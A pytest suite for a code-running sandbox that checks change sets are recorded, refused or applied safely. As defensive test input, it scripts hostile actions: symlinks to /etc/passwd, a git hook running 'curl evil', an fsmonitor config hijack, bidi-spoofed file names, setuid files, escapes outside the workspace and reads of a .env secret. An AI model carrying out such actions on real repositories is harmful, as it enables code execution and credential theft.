"""Writing runs through the real sandbox: the copy at the workspace's path, hostile change sets, both backends (decision 78)."""

from __future__ import annotations

import hashlib
import json
import os
import stat
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import anyio
import pytest

from sandbox import Limits, RunResult, probe_host, run_sandboxed
from sandbox.apply import apply_changes
from sandbox.backends.rlimits import DEFAULT_FILE_SIZE_BYTES
from sandbox.change_set import Action, ChangeRules, ChangeSet, Refusal, TooLarge
from sandbox.errors import SandboxStartError
from sandbox.limits import BACKENDS, Backend
from sandbox.patch import render_patch
from sandbox.pinned import Pinned
from sandbox.workspace_copy import RACY_NS
from tests.harness import REPO
from tests.sandbox.confined_child import PYTHON, project, requires_root, users_project

pytestmark = requires_root


SHORT_RACY_NS = 100_000_000
"""The copy's racy window (ChangeRules.racy_ns) in the tests of a file rewritten during the run: 0.1 s, ten
jiffies and more of the coarse clock that stamps ctime on the filesystems whose identity the copy trusts. Files
made 0.3 s before the copy are past it, as they were made 2.2 s before it with RACY_NS (2 s)."""


def test_the_copys_racy_window_is_racy_ns_unless_a_test_shortens_it() -> None:
    assert ChangeRules().racy_ns == RACY_NS == 2_000_000_000
    with pytest.raises(ValueError, match="racy window"):
        ChangeRules(racy_ns=-1)


def run(
    folder: Path, ws: Pinned, code: str, backend: Backend = "native", rules: ChangeRules | None = None, **over: Any
) -> RunResult:
    if backend == "bubblewrap" and not probe_host().mount_tree:
        pytest.skip("bubblewrap does not run here")
    for name in ("out", "err"):
        (folder / name).unlink(missing_ok=True)
    limits = Limits(
        timeout_s=over.pop("timeout_s", 30),
        memory_limit_mb=256,
        max_processes=32,
        max_output_bytes=100_000,
        env={"PATH": "/usr/bin:/bin", "TMPDIR": str(folder / "scratch")},
        scratch_bytes=over.pop("scratch_bytes", 8 << 20),
        backend=backend,
    )
    on_stdout = over.pop("on_stdout", None)
    return anyio.run(
        lambda: run_sandboxed(
            [PYTHON, "-I", "-c", code],
            ws,
            limits,
            folder / "out",
            folder / "err",
            scratch=folder / "scratch",
            writes=rules or ChangeRules(),
            on_stdout=on_stdout,
        )
    )


def outcome(folder: Path, result: RunResult) -> str:
    return (folder / "out").read_text() + (folder / "err").read_text() + repr(result)


def by_path(changes: ChangeSet) -> dict[str, Action]:
    return {change.path: change.action for change in changes.changes}


def refused(changes: ChangeSet) -> dict[str, Refusal]:
    return {entry.path: entry.why for entry in changes.refused}


EDIT = """
import os, pathlib
here = os.getcwd()
pathlib.Path("a.py").write_text("x = 2\\n")
pathlib.Path("new/deep").mkdir(parents=True)
pathlib.Path("new/deep/b.py").write_text("print('b')\\n")
os.remove("gone.txt")
os.chmod("run.sh", 0o755)
pathlib.Path(WS, "absolute.txt").write_text("by the workspace's own path")
print(here)
"""


@pytest.mark.parametrize("backend", BACKENDS)
def test_a_run_writes_its_copy_at_the_workspace_path_and_never_the_workspace(backend: Backend) -> None:
    files = {"a.py": "x = 1\n", "gone.txt": "bye\n", "run.sh": "echo\n", "keep/k.txt": "k\n"}
    with project(files) as (folder, ws):
        result = run(folder, ws, f"WS = {str(ws.path)!r}\n{EDIT}", backend)
        assert result.exit_code == 0, outcome(folder, result)
        assert (folder / "out").read_text().strip() == str(ws.path), "the run sees the copy at the workspace's path"
        assert {p.name for p in ws.path.iterdir()} == {"a.py", "gone.txt", "run.sh", "keep"}, "nothing reached it"
        assert (ws.path / "a.py").read_text() == "x = 1\n"
        assert result.changes is not None
        assert by_path(result.changes) == {
            "a.py": Action.MODIFIED,
            "absolute.txt": Action.ADDED,
            "gone.txt": Action.DELETED,
            "new": Action.ADDED,
            "new/deep": Action.ADDED,
            "new/deep/b.py": Action.ADDED,
            "run.sh": Action.MODIFIED,
        }
        modified = next(c for c in result.changes.changes if c.path == "run.sh")
        assert (modified.mode_before, modified.mode_after) == (0o644, 0o755)
        assert modified.sha256_before == modified.sha256_after
        assert result.changes.refused == ()
        patch = render_patch(result.changes)
        assert "-x = 1\n+x = 2" in patch
        applied = apply_changes(ws.fd, result.changes)
        assert applied.applied, applied
        assert (ws.path / "a.py").read_text() == "x = 2\n"
        assert (ws.path / "new/deep/b.py").read_text() == "print('b')\n"
        assert not (ws.path / "gone.txt").exists()
        assert stat.S_IMODE((ws.path / "run.sh").stat().st_mode) == 0o755
        assert (ws.path / "keep/k.txt").read_text() == "k\n"


REWRITE_AS_GIT_DOES = """
import os, pathlib
pathlib.Path("added.txt").write_text("new\\n")
pathlib.Path("made").mkdir()
with open("index.lock", "w") as lock:  # a new file renamed over the old one, as git writes its index
    lock.write("rewritten\\n")
os.rename("index.lock", "index")
"""


@pytest.mark.parametrize("backend", BACKENDS)
def test_what_a_run_adds_or_rewrites_gets_common_modes_whatever_the_gateways_umask(backend: Backend) -> None:
    """The gateway runs with umask 077 for its state; a run's files must not land 0600 in the workspace,
    where the next run, as another pool uid, could no longer read them."""
    with project({"index": "old\n"}) as (folder, ws):
        before = os.umask(0o077)
        try:
            result = run(folder, ws, REWRITE_AS_GIT_DOES, backend)
        finally:
            os.umask(before)
        assert result.exit_code == 0, outcome(folder, result)
        assert result.changes is not None and result.changes.refused == ()
        modes = {c.path: c.mode_after for c in result.changes.changes}
        assert modes == {"added.txt": 0o644, "made": 0o755, "index": 0o644}, modes
        assert apply_changes(ws.fd, result.changes).applied
        assert {name: stat.S_IMODE((ws.path / name).stat().st_mode) for name in modes} == modes


@pytest.mark.parametrize("backend", BACKENDS)
def test_a_workspace_too_large_to_copy_runs_nothing_though_the_child_was_forked(backend: Backend) -> None:
    """As root the copy is filled while the child makes its namespaces (decision 82): a copy that fails
    refuses the waiting child before its exec, and the copy's own reason is raised."""
    with project({f"f{i}": "x" for i in range(20)}) as (folder, ws):
        marker = folder / "ran"
        with pytest.raises(SandboxStartError) as refused:
            run(folder, ws, f"open({str(marker)!r}, 'w')", backend, ChangeRules(max_copy_files=10))
        assert refused.value.reason == "workspace_too_large_for_view"
        assert not marker.exists()
        assert run(folder, ws, "print('after')", backend).exit_code == 0, "the next run starts as ever"


STARTED_THEN_EDITS = """
import pathlib
print("started", flush=True)
pathlib.Path("a.txt").write_text("by the run\\n")
pathlib.Path("b.txt").write_text("by the run too\\n")
"""


@pytest.mark.parametrize("backend", BACKENDS)
def test_a_file_rewritten_in_the_workspace_during_the_run_with_its_size_and_times_is_a_conflict(
    backend: Backend,
) -> None:
    """Past the racy window, the copy leaves the hashes to the files' identity (decision 82): b.txt, untouched
    in the workspace, gets its true sha256_before; a.txt, rewritten there while the run goes on (same size, its
    times set back), gets none, and nothing applies."""
    files = {"a.txt": "alpha 1\n", "b.txt": "bravo 2\n"}
    with project(files) as (folder, ws):
        time.sleep(SHORT_RACY_NS / 1e9 + 0.2)
        rewritten: list[bytes] = []

        def rewrite(_: bytes) -> None:  # the run printed: its copy was made
            if not rewritten:
                before = os.stat(ws.path / "a.txt")
                with open(ws.path / "a.txt", "r+b") as handle:
                    handle.write(b"ALPHA 1\n")
                os.utime(ws.path / "a.txt", ns=(before.st_atime_ns, before.st_mtime_ns))
                rewritten.append(b"ALPHA 1\n")

        result = run(folder, ws, STARTED_THEN_EDITS, backend, ChangeRules(racy_ns=SHORT_RACY_NS), on_stdout=rewrite)
        assert result.exit_code == 0 and rewritten, outcome(folder, result)
        assert result.changes is not None
        changes = {change.path: change for change in result.changes.changes}
        assert changes["b.txt"].sha256_before == hashlib.sha256(b"bravo 2\n").hexdigest()
        assert changes["a.txt"].sha256_before is None, "not what was copied, and not known: never a false hash"
        applied = apply_changes(ws.fd, result.changes)
        assert (applied.applied, applied.reason, applied.conflicts) == (False, "changes_conflict", ("a.txt",))
        assert (ws.path / "a.txt").read_bytes() == b"ALPHA 1\n"
        assert (ws.path / "b.txt").read_bytes() == b"bravo 2\n", "nothing written"


HOSTILE = """
import os, json, pathlib
done = {}
def attempt(name, action):
    try:
        action()
        done[name] = "ok"
    except OSError as exc:
        done[name] = exc.strerror
attempt("link_out", lambda: os.symlink("/etc/passwd", "link_out"))
attempt("link_hooks", lambda: os.symlink(".git/hooks/pre-commit", "link_hooks"))
attempt("link_rel", lambda: os.symlink("a.py", "link_rel"))
attempt("hard_out", lambda: os.link("/etc/passwd", "hard_out"))
attempt("hard_in", lambda: os.link("a.py", "hard_in"))
attempt("fifo", lambda: os.mkfifo("fifo"))
attempt("device", lambda: os.mknod("device", 0o600 | 0o020000, os.makedev(1, 3)))
def setuid():
    pathlib.Path("setuid").write_text("x")
    os.chmod("setuid", 0o4755)
attempt("setuid", setuid)
attempt("hook", lambda: pathlib.Path(".git/hooks/pre-commit").write_text("#!/bin/sh\\ncurl evil\\n"))
attempt("vscode", lambda: (pathlib.Path(".vscode").mkdir(), pathlib.Path(".vscode/tasks.json").write_text("{}")))
attempt("config", lambda: pathlib.Path(".git/config").write_text("[core]\\nfsmonitor = evil\\n"))
attempt("newline", lambda: pathlib.Path("evil\\nname.txt").write_text("n"))
attempt("bidi", lambda: pathlib.Path("rea\\u202edme.txt").write_text("b"))
attempt("bytes", lambda: open(b"bad\\xff\\xfe.txt", "w").write("b"))
attempt("outside", lambda: pathlib.Path(OUTSIDE).write_text("escaped"))
print(json.dumps(done))
"""


@pytest.mark.parametrize("backend", BACKENDS)
def test_hostile_entries_are_refused_listed_and_never_applied(backend: Backend) -> None:
    files = {"a.py": "x = 1\n", ".git/hooks/README": "hooks\n", ".git/config": "[core]\n"}
    with project(files) as (folder, ws):
        outside = folder / "outside.txt"
        result = run(folder, ws, f"OUTSIDE = {str(outside)!r}\n{HOSTILE}", backend)
        assert result.exit_code == 0, outcome(folder, result)
        done = json.loads((folder / "out").read_text())
        assert done["outside"] != "ok" and not outside.exists(), "a write outside the workspace never lands"
        assert done["hard_out"] != "ok", "a hard link out of the copy's own filesystem cannot be made"
        assert result.changes is not None
        why = refused(result.changes)
        expected = {
            "link_out": Refusal.SYMLINK,
            "link_hooks": Refusal.SYMLINK,
            "link_rel": Refusal.SYMLINK,
            "hard_in": Refusal.HARD_LINK,
            "a.py": Refusal.HARD_LINK,
            "setuid": Refusal.SETUID,
            ".git/hooks/pre-commit": Refusal.PROTECTED,
            ".git/config": Refusal.PROTECTED,
            ".vscode": Refusal.PROTECTED,
            ".vscode/tasks.json": Refusal.PROTECTED,
            "fifo": Refusal.FIFO,
        }
        if done["device"] == "ok":
            expected["device"] = Refusal.DEVICE  # the copy is nodev, and mknod needs a capability the run lacks
        assert why == expected, done
        names = by_path(result.changes)
        assert names == {
            "evil\nname.txt": Action.ADDED,
            "rea\u202edme.txt": Action.ADDED,
            "bad\udcff\udcfe.txt": Action.ADDED,
        }
        patch = render_patch(result.changes)
        assert "evil\\nname.txt" in patch and "rea\\u202edme.txt" in patch and "bad\\xff\\xfe.txt" in patch
        assert "\u202e" not in patch
        applied = apply_changes(ws.fd, result.changes)
        assert applied.applied, applied
        present = set(os.listdir(os.fsencode(ws.path)))
        assert present == {b"a.py", b".git", b"evil\nname.txt", "rea\u202edme.txt".encode(), b"bad\xff\xfe.txt"}
        assert os.listdir(ws.path / ".git/hooks") == ["README"]
        assert (ws.path / ".git/config").read_text() == "[core]\n"


@pytest.mark.parametrize("backend", BACKENDS)
def test_many_files_or_a_sparse_huge_file_make_the_set_too_large_in_bounded_time(backend: Backend) -> None:
    many = "import os\nfor i in range(100_000):\n    try:\n        open(f'f{i}', 'w').close()\n    except OSError:\n        break\nprint(i)\n"
    sparse = (
        "import os\nwith open('sparse', 'wb') as f:\n"
        "    try:\n        f.truncate(5 << 30)\n    except OSError:\n        f.truncate(RLIMIT_FSIZE)\n"
        "print(os.stat('sparse').st_blocks, os.stat('sparse').st_size)\n"
    )
    with project({"a.py": "x = 1\n"}) as (folder, ws):
        result = run(folder, ws, many, backend)
        assert result.exit_code == 0, outcome(folder, result)
        assert int((folder / "out").read_text()) < 2000, "the copy's inodes are capped near max_change_files"
        assert result.changes is not None and result.changes.too_large is TooLarge.FILES
        assert len(result.changes.changes) + len(result.changes.refused) == ChangeRules().max_files + 1
        assert apply_changes(ws.fd, result.changes).reason == "changes_too_large"
        assert os.listdir(ws.path) == ["a.py"]
        result = run(folder, ws, f"RLIMIT_FSIZE = {DEFAULT_FILE_SIZE_BYTES}\n{sparse}", backend)
        assert result.exit_code == 0, outcome(folder, result)
        blocks, size = map(int, (folder / "out").read_text().split())
        assert blocks == 0, "sparse: no real blocks"
        assert size in (5 << 30, DEFAULT_FILE_SIZE_BYTES), "5 GiB, or as much as the run's RLIMIT_FSIZE lets it have"
        assert result.changes is not None and result.changes.too_large is TooLarge.BYTES
        assert size > ChangeRules().max_bytes
        assert result.changes.changes == ()


KEEPS_WRITING = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        i = 0
        while True:
            with open(f"late{i % 3}.txt", "w") as f:
                f.write(str(i))
            i += 1
    os._exit(0)
for _ in range(3000):  # the command ends once the writer has begun (30 s at most): it goes on writing
    if os.path.exists("late0.txt"):
        break
    time.sleep(0.01)
"""


@pytest.mark.parametrize("backend", BACKENDS)
def test_a_child_that_keeps_writing_is_dead_before_the_set_is_read(backend: Backend) -> None:
    with project({"a.py": "x = 1\n"}) as (folder, ws):
        result = run(folder, ws, KEEPS_WRITING, backend)
        assert result.exit_code == 0, outcome(folder, result)
        assert result.changes_error is None
        assert result.changes is not None
        late = {c.path: c.content for c in result.changes.changes}
        assert set(late) <= {"late0.txt", "late1.txt", "late2.txt"} and late, "it was writing while the run was on"
        # The copy was frozen read-only before it was read: a writer still holding it open would
        # have made that fail (test_workspace_changes.py shows EBUSY), and the set would be None.


SECRETS = """
import json, os
def attempt(action):
    try:
        return "ok:" + repr(action())
    except OSError as exc:
        return "blocked:" + (exc.strerror or "")
print(json.dumps({
    "read_secret": attempt(lambda: open(".env").read()),
    "read_private": attempt(lambda: os.listdir("private")),
    "write_secret": attempt(lambda: open(".env", "w").write("x")),
    "chmod_secret": attempt(lambda: os.chmod(".env", 0o644)),
    "read_public": attempt(lambda: open("a.py").read()),
}))
"""


@pytest.mark.parametrize("backend", BACKENDS)
def test_what_the_run_could_not_read_in_the_workspace_it_cannot_read_in_the_copy(backend: Backend) -> None:
    with project({"a.py": "x = 1\n", ".env": "TOKEN=secret\n", "private/key": "k\n"}) as (folder, ws):
        os.chmod(ws.path / ".env", 0o600)
        os.chmod(ws.path / "private", 0o700)
        result = run(folder, ws, SECRETS, backend)
        assert result.exit_code == 0, outcome(folder, result)
        seen = json.loads((folder / "out").read_text())
        assert seen["read_public"] == "ok:'x = 1\\n'"
        for name in ("read_secret", "read_private", "write_secret", "chmod_secret"):
            assert seen[name].startswith("blocked:"), (name, seen)
        assert "secret" not in (folder / "out").read_text().replace("_secret", "")
        assert result.changes is not None and result.changes.is_empty


ROOTLESS_UID = 64073
"""An ordinary uid with no account for the rootless writing runs (not root, not a pool uid, not test_userns's)."""

ROOTLESS_EDIT = """
import os, pathlib
pathlib.Path("a.py").write_text("x = 2\\n")
pathlib.Path(".git/hooks/pre-commit").write_text("#!/bin/sh\\nevil\\n")
os.symlink("/etc/passwd", "out")
for i in range(100_000):
    try:
        open(f"many{i}", "w").close()
    except OSError:
        break
for i in range(i):
    os.remove(f"many{i}")
pathlib.Path("new.txt").write_text("new\\n")
try:
    pathlib.Path(OUTSIDE).write_text("escaped")
except OSError as exc:
    print("outside:", exc.strerror)
print(os.getcwd(), i)
"""


def as_user(
    code: str, folder: Path, backend: Backend, *extra: str, rewrite: str | None = None, racy_ns: int | None = None
) -> dict[str, Any]:
    """`rewrite`: a workspace file the script rewrites (same size, times set back) when the run first prints;
    `racy_ns`: the copy's racy window (ChangeRules.racy_ns), RACY_NS when None."""
    child = str(REPO / "tests" / "sandbox" / "rootless_writes_child.py")
    command = ["setpriv", f"--reuid={ROOTLESS_UID}", f"--regid={ROOTLESS_UID}", "--clear-groups", "--"]
    argv = [*command, sys.executable, child, code, str(folder / "ws"), str(folder / "scratch"), backend, *extra]
    env = {"PATH": "/usr/bin:/bin", "PYTHONPATH": str(REPO), "HOME": "/"}
    if rewrite is not None:
        env["REWRITE_ON_OUTPUT"] = rewrite
    if racy_ns is not None:
        env["COPY_RACY_NS"] = str(racy_ns)
    done = subprocess.run(argv, capture_output=True, text=True, env=env, timeout=120, check=False, cwd="/")
    assert done.returncode == 0, done.stderr
    outcome: dict[str, Any] = json.loads(done.stdout)
    return outcome


@pytest.mark.parametrize("backend", BACKENDS)
def test_a_rootless_gateways_run_writes_a_copy_its_child_made_and_the_gateway_filled(backend: Backend) -> None:
    with users_project({"a.py": "x = 1\n", ".git/hooks/README": "hooks\n"}, ROOTLESS_UID) as folder:
        code = f"OUTSIDE = {str(folder / 'outside' / 'x')!r}\n{ROOTLESS_EDIT}"
        seen = as_user(code, folder, backend)
        assert seen["rootless"] is True
        assert seen["exit_code"] == 0, seen
        cwd, made = seen["stdout"].splitlines()[-1].split()
        assert cwd == str(folder / "ws"), "the copy is at the workspace's path"
        assert int(made) < 2000, "the copy's inodes are capped near max_change_files"
        assert "outside: " in seen["stdout"] and not (folder / "outside" / "x").exists(), "read-only tree, Landlock"
        assert seen["changes_error"] is None
        assert seen["changes"] == [["a.py", "modified"], ["new.txt", "added"]]
        assert seen["refused"] == [[".git/hooks/pre-commit", "protected_path"], ["out", "symlink"]]
        assert seen["applied"] is True
        assert (folder / "ws" / "a.py").read_text() == "x = 2\n"
        assert (folder / "ws" / "new.txt").read_text() == "new\n"
        assert sorted(os.listdir(folder / "ws" / ".git" / "hooks")) == ["README"]
        assert (folder / "ws" / "new.txt").stat().st_uid == ROOTLESS_UID


@pytest.mark.parametrize("backend", BACKENDS)
def test_a_rootless_run_leaves_hashes_to_identity_and_a_rewrite_during_it_is_a_conflict(backend: Backend) -> None:
    """The rootless copy (filled by the gateway's thread) is the same copy (decision 82): past the racy window
    the untouched file's sha256_before is true, the one rewritten meanwhile has none, nothing applies."""
    with users_project({"a.txt": "alpha 1\n", "b.txt": "bravo 2\n"}, ROOTLESS_UID) as folder:
        time.sleep(SHORT_RACY_NS / 1e9 + 0.2)
        seen = as_user(STARTED_THEN_EDITS, folder, backend, rewrite="a.txt", racy_ns=SHORT_RACY_NS)
        assert seen["rootless"] is True and seen["exit_code"] == 0, seen
        assert seen["rewritten"] == ["a.txt"]
        assert seen["sha256_before"] == {"a.txt": None, "b.txt": hashlib.sha256(b"bravo 2\n").hexdigest()}
        assert (seen["applied"], seen["reason"], seen["conflicts"]) == (False, "changes_conflict", ["a.txt"])
        assert (folder / "ws" / "a.txt").read_bytes() == b"ALPHA 1\n"
        assert (folder / "ws" / "b.txt").read_bytes() == b"bravo 2\n"


SEES_ITS_MOUNT = """
import json, os
here = os.getcwd()
try:  # bubblewrap's run reads it; Landlock keeps a native run out of /proc/self/mountinfo
    mounts = [line.split() for line in open("/proc/self/mountinfo")]
except PermissionError:
    mounts = None
at = [m for m in mounts or () if m[4] == here]
size = os.statvfs(".")
print(json.dumps({"types": [m[m.index("-") + 1] for m in at], "options": [m[5].split(",") for m in at],
                  "read": mounts is not None, "own_device": os.stat(".").st_dev != os.stat("..").st_dev,
                  "bytes": size.f_blocks * size.f_frsize, "files": size.f_files, "names": sorted(os.listdir("."))}))
"""


@pytest.mark.parametrize("backend", BACKENDS)
def test_a_rootless_copy_is_mounted_once_on_top_filled_and_capped_before_the_run(backend: Backend) -> None:
    """The rootless child mounts its copy's tmpfs only once the gateway has filled it (decision 104 kept that
    order): the run sees one tmpfs at the workspace's path, on top of the read-only workspace, writable, nosuid
    and nodev, already filled and already capped to what it holds plus the headroom (the cap comes with the
    word to go)."""
    with users_project({"a.py": "x = 1\n", "pkg/b.py": "y = 2\n"}, ROOTLESS_UID) as folder:
        seen = as_user(SEES_ITS_MOUNT, folder, backend)
        assert seen["rootless"] is True and seen["exit_code"] == 0, seen
        mount = json.loads(seen["stdout"].splitlines()[-1])
        assert mount["own_device"] is True, "a mount of its own over the workspace"
        if backend == "bubblewrap" or mount["read"]:
            assert mount["types"][-1] == "tmpfs" and mount["types"].count("tmpfs") == 1, "one copy, on top"
            assert {"rw", "nosuid", "nodev"} <= set(mount["options"][-1]), mount
            assert all("ro" in options for options in mount["options"][:-1]), "beneath it, the read-only workspace"
        assert mount["names"] == ["a.py", "pkg"]
        rules = ChangeRules()
        assert mount["bytes"] < rules.max_copy_bytes, "capped after the fill, before the run"
        assert mount["files"] < rules.max_files + 200, "capped after the fill, before the run"


def test_a_rootless_workspace_too_large_to_copy_runs_nothing() -> None:
    with users_project({f"f{i}": "x" for i in range(20)}, ROOTLESS_UID) as folder:
        marker = folder / "outside" / "ran"
        seen = as_user(f"open({str(marker)!r}, 'w')", folder, "native", "10")
        assert seen == {"rootless": True, "start_error": "workspace_too_large_for_view"}
        assert not marker.exists()


@pytest.mark.parametrize("backend", BACKENDS)
def test_a_rootless_run_gets_the_same_refusals_and_its_late_writer_is_dead_before_the_read(backend: Backend) -> None:
    files = {"a.py": "x = 1\n", ".git/hooks/README": "hooks\n", ".git/config": "[core]\n"}
    with users_project(files, ROOTLESS_UID) as folder:
        outside = folder / "outside" / "x"
        code = f"OUTSIDE = {str(outside)!r}\n{HOSTILE}\n{KEEPS_WRITING}"
        seen = as_user(code, folder, backend)
        assert seen["exit_code"] == 0, seen
        assert seen["changes_error"] is None
        refused = {path: why for path, why in seen["refused"]}
        assert {path: refused[path] for path in ("link_out", "hard_in", "a.py", "fifo", "setuid", ".git/config")} == {
            "link_out": "symlink",
            "hard_in": "hard_link",
            "a.py": "hard_link",
            "fifo": "fifo",
            "setuid": "setuid_or_setgid_bit",
            ".git/config": "protected_path",
        }
        added = {path for path, action in seen["changes"] if action == "added"}
        assert {"late0.txt", "evil\nname.txt"} <= added, "the late writer wrote while the run was on"
        assert seen["applied"] is True and not outside.exists()
        assert sorted(os.listdir(folder / "ws" / ".git" / "hooks")) == ["README"]
        late = (folder / "ws" / "late0.txt").read_text()
        time.sleep(0.3)
        assert (folder / "ws" / "late0.txt").read_text() == late, "nothing writes after the run"
